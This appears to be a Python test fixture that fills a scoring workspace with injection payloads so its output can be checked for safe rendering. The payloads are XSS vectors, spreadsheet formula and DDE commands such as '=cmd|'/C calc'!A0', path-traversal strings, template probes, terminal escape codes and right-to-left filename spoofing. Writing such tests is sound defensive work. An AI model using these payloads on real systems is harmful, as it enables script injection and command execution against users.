"""Names as nobody should hand them in, and a workspace that holds them in every field that reaches a page.

Whatever of them is taken for HTML makes an element with the class `pwned`, whatever runs sets `window.pwned`.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
from pathlib import Path
from typing import Any

import nbformat
from nbformat.v4 import new_code_cell, new_notebook
from openpyxl import Workbook
from shared import ROOT

RUN = "window.pwned=1"
FRAME = f"<iframe class=pwned srcdoc='<script>parent.{RUN}</script>'></iframe>"

SEEN: dict[str, str] = {  # each of them can be read as it stands
    "script": f"<script class=pwned>{RUN}</script>",
    "script_case": f"<ScRiPt class=pwned>{RUN}</sCrIpT >",
    "image": f"<img class=pwned src=x onerror={RUN}>",
    "unclosed": f"<img class=pwned src=x onerror={RUN} ",
    "svg": f"<svg class=pwned onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "foreign": f"<svg class=pwned><foreignObject><body onload={RUN}></foreignObject></svg>",
    "math_element": f"<math class=pwned><mi href='javascript:{RUN}'>x</mi></math>",
    "frame": FRAME,
    "object": f"<object class=pwned data='javascript:{RUN}'></object><embed class=pwned src='javascript:{RUN}'>",
    "link": f"<a class=pwned href='javascript:{RUN}'>here</a>",
    "form": f"<form class=pwned action='javascript:{RUN}'><button>ok</button><input class=pwned onfocus={RUN} autofocus>",
    "details": f"<details class=pwned open ontoggle={RUN}><summary>s",
    "base": "<base class=pwned href='https://pwned.invalid/'>",
    "refresh": "<meta class=pwned http-equiv=refresh content='0;url=https://pwned.invalid/'>",
    "sheet": "<link class=pwned rel=stylesheet href='https://pwned.invalid/x.css'><style class=pwned>*{display:none}</style>",
    "ends_title": f"</title></style></script></textarea></noscript><b class=pwned onclick={RUN}>b</b>",
    "ends_table": "</td></tr></table></figure></details></main><b class=pwned>b</b>",
    "ends_svg": f"</text></g></svg><b class=pwned>b</b><image class=pwned href=x onerror={RUN} />",
    "ends_comment": "--><b class=pwned>b</b><!-- ]]><b class=pwned>b</b><![CDATA[ <?php ?>",
    "attribute": f"\" class=\"pwned\" onmouseover=\"{RUN}\" x='' ' class='pwned' onfocus='{RUN}' autofocus='",
    "entities": f"&lt;b class=pwned&gt;&#60;script&#62;{RUN}&#60;/script&#62;&amp;&quot;&nbsp;&notanentity;",
    "css": f"\"}} * {{ display: none }} </style><b class=pwned>b</b> \\22 \\00003c expression({RUN}) url(https://pwned.invalid/y)",
    "svg_words": "font-family: Pwned; id=\"f1\" fill: #000000; url(#m1) href=\"#m1\" <metadata>m</metadata>",
    "template": "{{ 7*7 }} {% raw %} {# x #} ${7*7} #{7*7} <%= 7*7 %>",
    "format": "{0.__class__} {unit} {zh} {} %s %(name)s %n {{",
    "dollars": "$\\frac{a}{b}$ and $$x^2$$ and \\(y_1\\) and \\[z\\] \\begin{equation}q\\end{equation} $\\href{javascript:1}{h}$",
    "markdown": "**bold** _it_ `code` [link](javascript:window.pwned=1) ![i](https://pwned.invalid/i.png) <https://pwned.invalid/>",
    "markdown_block": "# heading |cell|---| > quote - item 1. item *** ~~~ [ref]: https://pwned.invalid/",
    "address": "https://pwned.invalid/ www.pwned.invalid mailto:a@pwned.invalid javascript:window.pwned=1",
    "hyperlink": "=HYPERLINK(\"https://pwned.invalid/\"&A1;\"here\")",
    "command": "=cmd|'/C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-1+1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "wide_formula": "\uff1d1\uff0b1",
    "quoted_formula": "'=1+1",
    "sum": "=1+1\";=1+1,=1+1",
    "semicolon": "x;=1+1;@SUM(1)",
    "path": "../../../pwned.html",
    "windows_path": "..\\..\\pwned.html C:\\pwned\\con.txt \\\\host\\share file:///etc/passwd %2e%2e%2f",
    "device": "CON",
    "emoji": "\U0001f600 \U0001f1e8\U0001f1f3 e\u0301\u0301\u0301\u0301 \u0e01\u0e33 \ufdfd",
    "long_word": "w" * 200,
    "long_name": "名" * 200,
}
UNSEEN: dict[str, str] = {  # each holds what is not seen, or what a terminal acts upon
    "right_to_left": "\u202egnp.exe\u202c \u2067x\u2069 \u200fy\u200e",
    "zero_width": "a\u200b=1\u2060b\u200d\u00adc",
    "zero_width_formula": "\u200b=1+1",
    "controls": "b\x07ell\x08\x7f\x0c",
    "colours": "\x1b[31mred\x1b[2J\x1b[0m",
    "terminal_title": "\x1b]0;pwned\x07\x1b]8;;https://pwned.invalid/\x1b\\here\x1b]8;;\x1b\\",
    "high_controls": "\x9b31mred\x9d0;pwned\x9c",
    "line": "first\nsecond\r\nthird\u2028fourth\x85fifth",
    "tab_formula": "\t=1+1",
    "return_formula": "\r=1+1",
    "other_space": "a\u3000b\u00a0c\u2003d",
}
ALL = {**SEEN, **UNSEEN}


def quoted(text: str) -> str:
    """A text in YAML's double quotes, what YAML does not take as it stands written as an escape."""
    plain = json.dumps(text, ensure_ascii=False)
    return re.sub("[\x7f-\x9f\u2028\u2029\ufeff\u200b-\u200f\u202a-\u202e\u2060-\u2069]", lambda c: f"\\u{ord(c[0]):04x}", plain)


def tagged(key: str, field: str) -> str:
    """The payload with the field that it stands in, so that it is found there and nowhere else."""
    return f"{ALL[key]}·{field}·{key}"


def named(key: str, field: str) -> dict[str, str]:
    return {lang: tagged(key, f"{field}-{lang}") for lang in ("zh", "en")}


def every(field: str) -> dict[str, str]:
    """All that can be read as it stands, one after the other, for a field of which there is but one."""
    return {lang: " ".join(tagged(key, f"{field}-{lang}") for key in SEEN) for lang in ("zh", "en")}


def flow(value: Any) -> str:
    """YAML's flow style, texts in double quotes, but for what stands bare: numbers and shares given as `Bare`."""
    if isinstance(value, dict):
        return "{" + ", ".join(f"{quoted(key)}: {flow(each)}" for key, each in value.items()) + "}"
    if isinstance(value, list):
        return "[" + ", ".join(map(flow, value)) + "]"
    return value if isinstance(value, Bare) else quoted(value)


class Bare(str):
    """A number or a share."""


def dealt(keys: list[str], hands: int, hand: int) -> list[str]:
    return keys[hand::hands]


# a file's name cannot hold all of it, least of all on Windows
FILE = f"<img class=pwned src=x onerror={RUN}> $x$ {{0}} \u202e\x1b[31m" if os.name == "posix" else "$x$ {0} &lt;b&gt; \u202e"
PRINTS, FAILS = f"98 {FILE}", f"99 {FILE}"
CATEGORIES = ("c0", "c1", "c2")
TIERS = ("image", "ends_table", "dollars", "hyperlink")


def tree(hand: int) -> str:
    """A category whose leaves and adjustment are named, measured, cited and assumed by payloads."""
    keys = dealt(list(SEEN), len(CATEGORIES), hand)
    weights = [Bare(5)] * (len(keys) - 1) + [Bare(100 - 5 * (len(keys) - 1))]
    rule = {"method": "given", "out_of": Bare("100")}
    leaves = [{"code": f"A.{i}", "name": named(key, "leaf"), "weight": weights[i], "clause": [f"n{key}"], "assumed": [f"s{key}"],
               "measured_in": named(key, "measure"), "lead": f"u{hand}x0", "scored_by": rule} for i, key in enumerate(keys)]
    branch = {"code": "A", "name": named(keys[0], "branch"), "weight": Bare("100"), "clause": "silent", "assumed": ["case"],
              "children": leaves}
    bonus = {"code": "J", "name": named(keys[1], "bonus"), "cap": Bare("3"), "clause": "silent", "assumed": ["case"],
             "scored_by": {"method": "per_event", "kind": "bonus", "levels": {"city": Bare("0.1")}, "same_honour": "each",
                           "several_units": "each"}}
    head = {"code": CATEGORIES[hand], "name": named(keys[2], "category"), "clause": "silent", "assumed": ["case"]}
    return f"category: {flow(head)}\nindicators:\n  - {flow(branch)}\nadjustments:\n  - {flow(bonus)}\n"


def rules() -> dict[str, Any]:
    case = {"clause": "silent", "assumed": "case"}
    takes = [*[Bare("20%")] * 3, "rest"]
    levels = [{"code": f"t{i}", "name": named(key, "tier"), "takes": takes[i]} for i, key in enumerate(TIERS)]
    return {
        "year": "2020", "period": "2020", "data": "sample", "office": every("office"), "title": every("title"),
        "status": every("status"), "as_of": "2020-12-31", "categories": [*CATEGORIES],
        "total": {"points": Bare("100"), **case}, "rounding": {"leaf": "exact", "total": Bare("2"), "half": "up", **case},
        "ties": {"method": "min", **case}, "not_applicable": {"rule": "redistribute", **case},
        "divisors": {"when_not_positive": "refuse", **case}, "comparison": {"tolerance": Bare("0.01"), **case},
        "tiers": {"count": "half_up", "tied_at_the_cut": "in", "vetoes": {"bars": ["t0"], **case}, "levels": levels, **case},
    }


def table(path: Path, header: str, rows: list[list[str]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream, quoting=csv.QUOTE_ALL).writerows([header.split(","), *rows])


def tables(data: Path) -> None:
    """Units, decisions and superior indicators of the year; observations, honours and a published list of each category."""
    units, decisions = [], []
    for hand, category in enumerate(CATEGORIES):
        keys, leaves = dealt(list(ALL), len(CATEGORIES), hand), len(dealt(list(SEEN), len(CATEGORIES), hand))
        codes = [f"u{hand}x{i}" for i in range(len(keys))]
        units += [[code, tagged(key, "unit-zh"), tagged(key, "unit-en"), category] for code, key in zip(codes, keys, strict=True)]
        decisions += [[code, "veto", "2020-05-01", tagged(key, "decided"), tagged(key, "because")]
                      for code, key in zip(codes, keys, strict=True)]
        table(data / category / "observations.csv", "unit,indicator,period,value,note",
              [[code, f"A.{i}", "2020", str(60 + (7 * i + 3 * j) % 40), tagged(key, "remark")]
               for j, (code, key) in enumerate(zip(codes, keys, strict=True)) for i in range(leaves)])
        table(data / category / "events.csv", "unit,indicator,period,honour,level,date,document,note",
              [[code, "J", "2020", tagged(key, "honour"), "city", "2020-05-01", tagged(key, "document"), tagged(key, "remark")]
               for code, key in zip(codes, keys, strict=True)])
        table(data / category / "published.csv", "unit,score,rank,note",
              [[code, "1.00", "1", tagged(key, "difference")] for code, key in zip(codes, keys, strict=True)])
    book = Workbook()
    book.active.title = "responsible"
    for row in (["superior", "unit", "indicator", "share"], ["H0", "u0x0", "A.0", 100]):
        book.active.append(row)
    book.save(data / f"{FILE}.xlsx")
    table(data / "units.csv", "unit,name,name_en,category", units)
    table(data / "decisions.csv", "unit,kind,since,document,note", decisions)
    table(data / "superior.csv", "superior,name,name_en,set_by,period,place,peers,note",
          [[f"H{i}", tagged(key, "superior-zh"), tagged(key, "superior-en"), "province", "2020", "2", "7", tagged(key, "remark")]
           for i, key in enumerate(ALL)])


def workspace(root: Path) -> Path:
    """Rule-book, data and the suite's notebooks."""
    params = root / "params" / "2020"
    (params / "trees").mkdir(parents=True)
    case = {each: {"zh": "算例", "en": "case"} for each in ("term", "assumes", "reason")}
    assumed = {f"s{key}": {"term": named(key, "subject"), "assumes": named(key, "assumes"), "reason": named(key, "reason")}
               for key in SEEN}
    files = {"rulebook.yaml": "".join(f"{key}: {flow(each)}\n" for key, each in rules().items()),
             "clauses.yaml": flow({f"n{key}": {"term": named(key, "term"), "says": named(key, "says")} for key in SEEN}),
             "assumptions.yaml": flow({**assumed, "case": case})}
    for hand, category in enumerate(CATEGORIES):
        files[f"trees/{category}.yaml"] = tree(hand)
        files[f"{category}.yaml"] = f'year: "2020"\ncategory: "{category}"\n'
    for name, text in files.items():
        (params / name).write_text(text, encoding="utf-8", newline="")
    tables(root / "data" / "2020")
    shutil.copytree(ROOT / "notebooks", root / "notebooks")
    for name, title, source in ((PRINTS, "prints", f"print({[*ALL.values()]!r})\nprint(*{[*ALL.values()]!r}, sep='\\n')"),
                                (FAILS, "fails", f"raise ValueError({' '.join(ALL.values())!r})")):
        parameters = new_code_cell('year: str = "2020"\nlang: str = "zh"', metadata={"tags": ["parameters"]})
        notebook = new_notebook(cells=[parameters, new_code_cell(source)], metadata={"txlib": {"title": every(title)}})
        nbformat.write(notebook, root / "notebooks" / f"{name}.ipynb")
    return root
